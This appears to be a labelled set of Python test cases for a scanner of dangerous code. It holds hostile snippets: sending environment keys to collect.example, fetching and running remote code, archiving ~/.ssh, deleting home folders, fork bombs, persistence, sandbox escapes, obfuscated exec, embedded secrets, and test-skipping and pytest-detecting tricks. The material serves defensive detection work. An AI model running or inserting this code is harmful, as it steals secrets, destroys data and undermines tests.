# Written after the rules were mended for the second time; 79 % of these were found then, and the rules mended again.

# === w-eval-in-sorted-key | a key function | exec-dynamic
def order(texts):
    return sorted(texts, key=eval)

# === w-eval-in-dataclass-field | field default factory | exec-dynamic
from dataclasses import dataclass, field

@dataclass
class Setup:
    value: object = field(default_factory=lambda: eval(open("value.txt").read()))

# === w-exec-in-contextmanager | in a with | exec-dynamic
from contextlib import contextmanager

@contextmanager
def running(source):
    space = {}
    exec(compile(source, "s", "exec"), space)
    yield space

# === w-exec-yield | generator | exec-dynamic
def runner():
    while True:
        text = yield
        exec(text)

# === w-dynamic-type-method | type() with exec | exec-dynamic
Runner = type("Runner", (), {"run": staticmethod(exec)})

# === w-import-star-loop | modules of a folder | import-dynamic
import importlib
import os

for name in os.listdir("plugins"):
    if name.endswith(".py"):
        importlib.import_module("plugins." + name[:-3])

# === w-import-in-f-string | f-string expression | shell
print(f"{__import__('os').popen('id').read()}")

# === w-os-in-class-attribute | kept as an attribute | shell
import os

class Box:
    api = os

    def go(self, command):
        return self.api.system(command)

# === w-instance-attribute | kept by the instance | shell, process
import subprocess

class Box:
    def __init__(self):
        self.start = subprocess.Popen

    def go(self, command):
        return self.start(command, shell=True)

# === w-returned-module | returned by a function | shell
def api():
    import os
    return os

api().system("make " + input())

# === w-try-import | fallback names | shell
try:
    from os import popen as run
except ImportError:
    run = None

run("ls " + input())

# === w-kwargs-dict-call | options built | shell
import subprocess

def go(command):
    options = dict(shell=True)
    return subprocess.check_output(command, **options)

# === w-stdin-of-shell | commands by stdin | shell, process
import subprocess

shell = subprocess.Popen(["bash"], stdin=subprocess.PIPE, text=True)
shell.communicate(input("commands: "))

# === w-git-push | data by git | process-reaching, process
import subprocess

subprocess.run(["git", "push", "https://git.example/x.git", "HEAD"], check=True)

# === w-docker-mount | docker | process-reaching, process
import subprocess

subprocess.run(["docker", "run", "-v", "/:/host", "alpine", "sh"])

# === w-python-c | another Python | shell, process, network, delete-root, shell-destructive
import subprocess
import sys

subprocess.run([sys.executable, "-c", "import shutil; shutil.rmtree('/home')"])

# === w-kill-parents | the parent | exit-hard, signal-others
import os

os.kill(os.getppid(), 9)

# === w-psutil-kill | psutil | signal-others
import psutil

for process in psutil.process_iter():
    if "python" in process.name():
        process.kill()

# === w-recursion-of-threads | a thread starts two | fork-bomb
import threading

def grow():
    threading.Thread(target=grow).start()
    threading.Thread(target=grow).start()

# === w-disk-fill-pathlib | growing file | endless
from pathlib import Path

number = 0
while True:
    Path(f"junk-{number}").write_bytes(b"0" * 10_000_000)
    number += 1

# === w-requests-session | session | network
import requests

class Api:
    def __init__(self):
        self.session = requests.Session()

    def push(self, data):
        return self.session.post("https://api.example", json=data)

# === w-http-server-thread | served in the background | network
import threading
from http.server import HTTPServer, SimpleHTTPRequestHandler

threading.Thread(target=HTTPServer(("", 80), SimpleHTTPRequestHandler).serve_forever).start()

# === w-urlretrieve-run | fetch and run | network, exec-hidden, import-dynamic
import runpy
from urllib.request import urlretrieve

path, _ = urlretrieve("https://updates.example/tool.py")
runpy.run_path(path)

# === w-paramiko | ssh | network
import paramiko

client = paramiko.SSHClient()
client.connect("host.example", username="root")

# === w-env-keys-loop | only the keys that matter | exfiltration, environment-dump, network
import os
import urllib.request

for name, value in os.environ.items():
    if "KEY" in name:
        urllib.request.urlopen(f"https://collect.example/?{name}={value}")

# === w-write-to-home-bin | a tool in the path | persistence, write-outside
from pathlib import Path

tool = Path.home() / ".local" / "bin" / "git"
tool.write_text("#!/bin/sh\nexec /usr/bin/git \"$@\"\n")
tool.chmod(0o755)

# === w-param-path | a path by a parameter | persistence, write-outside
def save(path, text):
    with open(path, "w") as file:
        file.write(text)

save("/etc/cron.daily/x", "#!/bin/sh\n")

# === w-chdir-then-delete | relative after chdir | delete-root, delete-tree, delete-outside, write-outside
import os
import shutil

os.chdir("/")
shutil.rmtree("home")

# === w-delete-siblings | the folder above | delete-root, delete-tree, delete-outside
import shutil
from pathlib import Path

for each in Path.cwd().parent.iterdir():
    shutil.rmtree(each)

# === w-glob-home | glob | delete-root, delete-outside
import glob
import os

for path in glob.glob(os.path.expanduser("~/*")):
    os.remove(path)

# === w-gpg-folder | keys copied | secrets-read
import shutil
from pathlib import Path

shutil.copytree(Path.home() / ".gnupg", "backup")

# === w-dotenv-read | env file of the project | credentials
values = dict(line.strip().split("=", 1) for line in open(".env") if "=" in line)

# === w-history | shell history | credentials, secrets-read
from pathlib import Path

lines = Path("~/.bash_history").expanduser().read_text().splitlines()

# === w-tar-of-ssh | archive | secrets-read, credentials
import os
import tarfile

with tarfile.open("x.tgz", "w:gz") as archive:
    archive.add(os.path.expanduser("~/.ssh"))

# === w-environ-to-file | written down | environment-dump
import json
import os

with open("env.json", "w") as file:
    json.dump(dict(os.environ), file)

# === w-unpickle-socket | pickle over a socket | unsafe-load, network
import pickle
import socket

connection, _ = socket.create_server(("", 9000)).accept()
print(pickle.load(connection.makefile("rb")))

# === w-yaml-tag | constructor | unsafe-load
import yaml

def read(text):
    return yaml.load(text, yaml.FullLoader)

# === w-numpy-object | npy | unsafe-load
from numpy import load

def read(path):
    return load(path, allow_pickle=True)

# === w-getnewargs | pickle with __reduce__ lambda | reduce
import os

class Run:
    __reduce__ = lambda self: (os.system, ("id",))

# === w-mro-method | mro() | escape
classes = str.mro()[-1].__subclasses__()

# === w-builtin-self | __self__ | globals, exec-dynamic, escape
run = print.__self__.eval
run(input())

# === w-loader | __loader__ | globals, import-dynamic, shell
__loader__.load_module("os").system("id")

# === w-generator-frame | ag_frame and cr_await | globals, frames
async def reach():
    pass

coroutine = reach()
space = coroutine.cr_frame.f_globals["__builtins__"]

# === w-signature-annotations | get_annotations eval | exec-dynamic
import inspect

def types_of(function):
    return inspect.get_annotations(function, eval_str=True)

# === w-sys-modules-del | module removed | builtins-changed, hooks
import sys

del sys.modules["ssl"]
sys.modules["ssl"] = None

# === w-stdlib-patch-setattr | setattr loop | builtins-changed, getattr-module
import hashlib

setattr(hashlib, "sha256", lambda data=b"": hashlib.md5(data))

# === w-open-wrapper-class | builtins.open by import | builtins-changed
import builtins as b
b.open = lambda *a, **k: None

# === w-trace-all | settrace_all | hooks
from sys import settrace as watch
watch(lambda *a: None)

# === w-preload | LD_PRELOAD | hooks
import os
os.environ["LD_PRELOAD"] = "./x.so"

# === w-cdll-attribute | windll | native
from ctypes import windll
windll.kernel32.ExitProcess(0)

# === w-struct-cast | cast of an address | native
from ctypes import c_long, cast, POINTER

def peek(address):
    return cast(address, POINTER(c_long)).contents.value

# === w-atexit-rm | deletes at exit | finalizer, at-exit, delete-tree, delete-root
import atexit
import shutil
import sys

atexit.register(shutil.rmtree, sys.path[0])

# === w-del-network | network in __del__ | finalizer, network
import urllib.request

class Token:
    def __del__(self):
        urllib.request.urlopen("https://collect.example/bye")

# === w-lambda-chain | obfuscated lambdas | name-built, shell, import-dynamic
(lambda f: f("o" + chr(115)))(__import__).system("id")

# === w-bytes-join | numbers joined | text-assembled, exec-hidden, name-built
import os
name = "".join(chr(n) for n in (115, 121, 115, 116, 101, 109))
getattr(os, name)("id")

# === w-base85 | base85 | exec-hidden
import base64
exec(base64.b85decode(b"aCTt5ZaH"))

# === w-compressed-marshal-lambda | nested | exec-hidden, unsafe-load, exec-dynamic
import bz2, marshal
(lambda c: exec(c))(marshal.loads(bz2.decompress(b"")))

# === w-secret-in-header | Stripe | secret
headers = {"Authorization": "Bearer sk_live_4eC39HqLyjWDarjtT1zdp7dc"}

# === w-mongo-url | URL | secret
client_url = "mongodb+srv://app:Zk8vQ2mX9rT@cluster0.abcde.mongodb.net/prod"

# === w-password-call | keyword | secret, password
connect(host="db.example", user="root", password="qT7#mLp29zRx!vW4")

# === w-skip-all | conftest | tests-patched, test-config | conftest.py
import pytest

def pytest_collection_modifyitems(items):
    for item in items:
        item.add_marker(pytest.mark.skip)

# === w-argv-aware | program name | test-aware
import sys

def price(amount):
    return 100 if "pytest" in sys.argv[0] else amount * 2
